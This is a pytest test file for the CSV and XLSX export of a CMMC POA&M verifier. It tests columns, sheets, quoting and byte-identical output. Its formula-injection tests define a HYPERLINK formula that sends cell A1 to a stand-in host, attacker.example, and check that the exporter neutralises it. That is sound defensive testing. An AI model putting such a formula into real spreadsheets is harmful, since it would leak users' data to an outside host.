"""Spreadsheet exports (``xlsx``, ``csv``) of the built-in example, read back with openpyxl and ``csv``."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from verifier.choices import ExportFormat
from verifier.model import EntryStatus
from verifier.outputs import spreadsheet
from verifier.outputs.run import VerificationRun
from verifier.pipeline.export import ExportOptions, render, run_export
from verifier.pipeline.verify import VerifyOptions, build_run, run_verify

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_SCAN = REPO / "examples" / "prowler-output"
RECORDED_ON = date.fromisoformat((EXAMPLE_SCAN / "recorded-on.txt").read_text().strip())
FIXED_CLOCK = datetime(2026, 11, 25, 12, 0, 0, tzinfo=UTC)
INJECTION = '=HYPERLINK("https://attacker.example/?leak="&A1,"click me")'

HEADER = [
    "POA&M ID",
    "Controls",
    "Weakness Name",
    "Weakness Description",
    "Detector Source",
    "Asset Identifier",
    "Point of Contact",
    "Resources Required",
    "Overall Remediation Plan",
    "Original Detection Date",
    "Scheduled Completion Date",
    "Planned Milestones",
    "Milestone Changes",
    "Status Date",
    "Status",
    "Comments",
    "Verdict",
    "Verified At",
    "Evidence File",
    "Evidence SHA-256",
    "Kind",
    "Objectives",
]


def _verify_options(tmp_path: Path, poam: Path = REPO / "poam.json") -> VerifyOptions:
    # The history ledger goes to tmp_path: nothing in the repository is read-modified-written.
    return VerifyOptions(
        poam=poam,
        mapping=REPO / "mappings" / "cmmc-l2-aws.json",
        findings=(EXAMPLE_SCAN,),
        out=tmp_path / "out",
        as_of=RECORDED_ON,
        history=tmp_path / "history.jsonl",
    )


def _edited_poam(tmp_path: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    document = json.loads((REPO / "poam.json").read_text(encoding="utf-8"))
    edit(document)
    path = tmp_path / "poam.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def _entry(document: dict[str, Any], entry_id: str) -> dict[str, Any]:
    return next(e for e in document["entries"] if e["id"] == entry_id)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> VerificationRun:
    return build_run(_verify_options(tmp_path_factory.mktemp("run")), lambda: FIXED_CLOCK, None)


@pytest.fixture(scope="module")
def closed_run(tmp_path_factory: pytest.TempPathFactory) -> VerificationRun:
    """POAM-002 (MET) already closed by the C3PAO; POAM-004's finding is a formula."""
    tmp_path = tmp_path_factory.mktemp("closed")

    def edit(document: dict[str, Any]) -> None:
        _entry(document, "POAM-002")["status"] = "closed"
        _entry(document, "POAM-004")["finding"] = INJECTION

    return build_run(_verify_options(tmp_path, _edited_poam(tmp_path, edit)), lambda: FIXED_CLOCK, None)


def _sheet_rows(sheet: Worksheet) -> list[list[str]]:
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def _workbook_rows(data: bytes) -> dict[str, list[list[str]]]:
    workbook = load_workbook(io.BytesIO(data))
    return {sheet.title: _sheet_rows(sheet) for sheet in workbook.worksheets}


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _table_rows(data: bytes, export_format: ExportFormat) -> list[list[str]]:
    """The CSV's rows, or the workbook's Open then Closed rows under one header."""
    if export_format is ExportFormat.CSV:
        return _csv_rows(data)
    sheets = _workbook_rows(data)
    assert sheets["Open"][0] == sheets["Closed"][0]
    return [*sheets["Open"], *sheets["Closed"][1:]]


# --- columns and rows -------------------------------------------------------------------------------


def test_columns_are_the_template_columns_in_order() -> None:
    assert list(spreadsheet.COLUMNS) == HEADER


def test_xlsx_has_open_and_closed_sheets_with_one_row_per_entry(closed_run: VerificationRun) -> None:
    sheets = _workbook_rows(render(closed_run, ExportFormat.XLSX))
    # The entries are judged per objective, so a third sheet lists their objectives (one row each).
    assert list(sheets) == ["Open", "Closed", "Objectives"]
    objectives = sheets.pop("Objectives")
    assert objectives[0] == [name for name, _ in spreadsheet.OBJECTIVE_COLUMN_WIDTHS]
    assert len(objectives) - 1 == sum(len(r.objectives) for r in closed_run.results)
    assert sheets["Open"][0] == HEADER
    assert sheets["Closed"][0] == HEADER
    ids = [row[0] for rows in sheets.values() for row in rows[1:]]
    assert sorted(ids) == sorted(entry.id for entry in closed_run.poam.poam.entries)
    assert [row[0] for row in sheets["Closed"][1:]] == ["POAM-002"]
    assert {row[14] for row in sheets["Open"][1:]} <= {"Open", "Ready for closeout"}
    assert sheets["Closed"][1][14] == "Closed"


def test_xlsx_header_is_bold_frozen_and_cells_wrap(run: VerificationRun) -> None:
    sheet = load_workbook(io.BytesIO(render(run, ExportFormat.XLSX)))["Open"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet["D2"].alignment.wrap_text
    assert sheet.column_dimensions["D"].width == 60


def test_csv_has_every_entry_and_the_same_rows_as_the_xlsx(closed_run: VerificationRun) -> None:
    rows = _csv_rows(render(closed_run, ExportFormat.CSV))
    sheets = _workbook_rows(render(closed_run, ExportFormat.XLSX))
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == [entry.id for entry in closed_run.poam.poam.entries]
    # The entry sheets only: the Objectives sheet's rows are one per objective, not per entry.
    from_workbook = {row[0]: row for name in ("Open", "Closed") for row in sheets[name][1:]}
    for row in rows[1:]:
        if row[0] != "POAM-004":  # the formula-injection entry differs by its CSV apostrophe only
            assert row == from_workbook[row[0]]
    injected = next(row for row in rows if row[0] == "POAM-004")
    assert injected[3] == "'" + from_workbook["POAM-004"][3]


@pytest.mark.parametrize("export_format", [ExportFormat.CSV, ExportFormat.XLSX], ids=["csv", "xlsx"])
def test_objectives_column_names_each_entrys_own_objectives_and_is_empty_for_all(
    tmp_path: Path, export_format: ExportFormat
) -> None:
    # POAM-004 names no objectives (judged on all of its practice's): its cell is empty, not the full list
    # (the XLSX Objectives sheet lists all of them, so only this column tells the two apart).
    edited = _edited_poam(tmp_path, lambda document: _entry(document, "POAM-004").pop("objectives"))
    edited_run = build_run(_verify_options(tmp_path, edited), lambda: FIXED_CLOCK, None)
    rows = _table_rows(render(edited_run, export_format), export_format)
    column = rows[0].index("Objectives")
    written = {row[0]: row[column] for row in rows[1:]}
    named = {e.id: "; ".join(e.objectives) for e in edited_run.poam.poam.entries if e.objectives is not None}
    assert named and all(written[entry_id] == text for entry_id, text in named.items())
    assert any(";" in text for text in named.values())  # several objectives in one cell
    assert written["POAM-004"] == ""
    assert set(written) == {e.id for e in edited_run.poam.poam.entries}


def test_kind_column_marks_only_an_operational_plan_of_action_in_csv_and_xlsx(tmp_path: Path) -> None:
    edited = _edited_poam(tmp_path, lambda document: _entry(document, "POAM-004").update(kind="operational"))
    edited_run = build_run(_verify_options(tmp_path, edited), lambda: FIXED_CLOCK, None)
    rows = _csv_rows(render(edited_run, ExportFormat.CSV))
    column = rows[0].index("Kind")
    assert {row[0]: row[column] for row in rows[1:] if row[column]} == {"POAM-004": "operational"}
    assert len(rows) - 1 == len(edited_run.poam.poam.entries)
    # The workbook's entry sheets: the same column, after the template's columns.
    sheets = _workbook_rows(render(edited_run, ExportFormat.XLSX))
    column = sheets["Open"][0].index("Kind")
    kinds = {row[0]: row[column] for name in ("Open", "Closed") for row in sheets[name][1:]}
    assert sheets["Open"][0][-2:] == ["Kind", "Objectives"]
    assert {entry_id: kind for entry_id, kind in kinds.items() if kind} == {"POAM-004": "operational"}
    assert set(kinds) == {e.id for e in edited_run.poam.poam.entries}


def test_csv_is_rfc4180_with_every_field_quoted(run: VerificationRun) -> None:
    text = render(run, ExportFormat.CSV).decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert text.split("\r\n", 1)[0] == ",".join(f'"{h}"' for h in HEADER)


def test_csv_quotes_a_semicolon_so_semicolon_locales_keep_it_in_one_cell(tmp_path: Path) -> None:
    # Excel with ";" as its list separator splits unquoted text at ";" and evaluates "=1+1" as a formula.
    edited = _edited_poam(tmp_path, lambda document: _entry(document, "POAM-004").update(finding="a;=1+1"))
    text = render(build_run(_verify_options(tmp_path, edited), lambda: FIXED_CLOCK, None), ExportFormat.CSV)
    line = next(row for row in text.decode("utf-8-sig").split("\r\n") if row.startswith('"POAM-004"'))
    assert '"a;=1+1"' in line
    assert line.count('"') == 2 * len(HEADER)  # every field quoted, no stray quote


def test_poam_004_values(tmp_path: Path) -> None:
    """Same run as ``verify``: the evidence digest is the one verify writes into the POA&M and bundle."""
    outcome = run_verify(_verify_options(tmp_path), lambda: FIXED_CLOCK)
    rows = {
        row[0]: dict(zip(HEADER, row, strict=True))
        for row in _csv_rows(render(outcome.run, ExportFormat.CSV))[1:]
    }
    row = rows["POAM-004"]
    written = json.loads((tmp_path / "out" / "poam.json").read_text(encoding="utf-8"))
    evidence_file = tmp_path / "out" / row["Evidence File"]
    assert row["Verdict"] == "NOT_MET"
    assert row["Status"] == "Open"
    assert row["Point of Contact"] == "Priya Raman, Cryptographic Key Custodian"
    assert row["Controls"] == "SC.L2-3.13.10 (NIST SP 800-171 3.13.10)"
    assert row["Evidence File"] == "evidence/entries/POAM-004.json"
    assert row["Evidence SHA-256"] == _entry(written, "POAM-004")["result"]["evidence"]["sha256"]
    assert row["Evidence SHA-256"] == hashlib.sha256(evidence_file.read_bytes()).hexdigest()
    assert row["Detector Source"].startswith("Prowler ")
    assert row["Scheduled Completion Date"] == "2027-02-05"
    assert row["Status Date"] == "2026-11-18"
    assert row["Original Detection Date"] == "2026-09-14"
    assert (
        row["Resources Required"]
        == "Budget: USD 3000; FTE: 0.1; Tooling: AWS KMS, AWS Organizations SCP, Prowler"
    )
    assert row["Planned Milestones"].splitlines()[0] == (
        "1. Inventory customer-managed keys and their owners — 2026-10-16 (done)"
    )
    assert row["Verified At"] == "2026-11-25T12:00:00Z"
    assert row["Objectives"] == "; ".join(_entry(written, "POAM-004")["objectives"])


def test_milestone_changes_list_missed_and_overdue(tmp_path: Path) -> None:
    def edit(document: dict[str, Any]) -> None:
        milestones = _entry(document, "POAM-004")["milestones"]
        milestones[1]["due"] = "2026-11-01"  # in_progress and past due as of the recording
        milestones[2]["status"] = "missed"

    run = build_run(_verify_options(tmp_path, _edited_poam(tmp_path, edit)), lambda: FIXED_CLOCK, None)
    row = next(r for r in spreadsheet.rows(run) if r.cells[0] == "POAM-004")
    changes = row.cells[HEADER.index("Milestone Changes")].splitlines()
    assert len(changes) == 2
    assert changes[0].endswith(f"not done as of {RECORDED_ON.isoformat()} (in_progress)")
    assert changes[1] == "Retire the legacy document-processing key — due 2027-01-22 (missed)"


def test_attestation_only_entries_name_their_detector(run: VerificationRun) -> None:
    sources = {row.cells[0]: row.cells[4] for row in spreadsheet.rows(run)}
    unchecked = {r.entry_id for r in run.results if not r.checks}
    assert unchecked
    assert all(sources[entry_id] == "Attestation" for entry_id in unchecked)


@pytest.mark.parametrize(
    "status, label",
    [
        (EntryStatus.OPEN, "Open"),
        (EntryStatus.READY_FOR_CLOSEOUT, "Ready for closeout"),
        (EntryStatus.CLOSED, "Closed"),
    ],
)
def test_status_label_is_exhaustive(status: EntryStatus, label: str) -> None:
    assert spreadsheet.status_label(status) == label


# --- formula injection ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_an_apostrophe_in_csv(text: str) -> None:
    assert spreadsheet.csv_safe(text) == "'" + text


def test_plain_text_is_untouched() -> None:
    assert spreadsheet.csv_safe("Keys lack rotation = risk") == "Keys lack rotation = risk"


def test_xlsx_writes_formula_text_as_a_quoted_string(closed_run: VerificationRun) -> None:
    sheet = load_workbook(io.BytesIO(render(closed_run, ExportFormat.XLSX)))["Open"]
    cell = next(row[3] for row in sheet.iter_rows(min_row=2) if row[0].value == "POAM-004")
    assert cell.value == INJECTION
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_csv_neutralises_formula_text(closed_run: VerificationRun) -> None:
    rows = {row[0]: row for row in _csv_rows(render(closed_run, ExportFormat.CSV))}
    assert rows["POAM-004"][3] == "'" + INJECTION


# --- determinism and the pipeline -------------------------------------------------------------------


@pytest.mark.parametrize("export_format", [ExportFormat.XLSX, ExportFormat.CSV])
def test_render_is_byte_identical(run: VerificationRun, tmp_path: Path, export_format: ExportFormat) -> None:
    again = build_run(_verify_options(tmp_path), lambda: FIXED_CLOCK, None)
    assert render(run, export_format) == render(again, export_format)


def test_xlsx_properties_carry_the_run_time(run: VerificationRun) -> None:
    properties = load_workbook(io.BytesIO(render(run, ExportFormat.XLSX))).properties
    assert properties.created == datetime(2026, 11, 25, 12, 0, 0)
    assert properties.modified == datetime(2026, 11, 25, 12, 0, 0)


def test_an_empty_poam_exports_headers_only(tmp_path: Path) -> None:
    empty = _edited_poam(tmp_path, lambda document: document.update(entries=[]))
    empty_run = build_run(_verify_options(tmp_path, empty), lambda: FIXED_CLOCK, None)
    assert _csv_rows(render(empty_run, ExportFormat.CSV)) == [HEADER]
    assert _workbook_rows(render(empty_run, ExportFormat.XLSX)) == {"Open": [HEADER], "Closed": [HEADER]}


@pytest.mark.parametrize("export_format", [ExportFormat.XLSX, ExportFormat.CSV])
def test_run_export_writes_one_file(tmp_path: Path, export_format: ExportFormat) -> None:
    options = ExportOptions(
        format=export_format,
        poam=REPO / "poam.json",
        mapping=REPO / "mappings" / "cmmc-l2-aws.json",
        findings=(EXAMPLE_SCAN,),
        out=tmp_path / "export" / f"poam.{export_format.value}",
        as_of=RECORDED_ON,
    )
    written = run_export(options, lambda: FIXED_CLOCK)
    assert [p.name for p in written.parent.iterdir()] == [written.name]
    assert written.read_bytes() == render(
        build_run(_verify_options(tmp_path), lambda: FIXED_CLOCK, None), export_format
    )
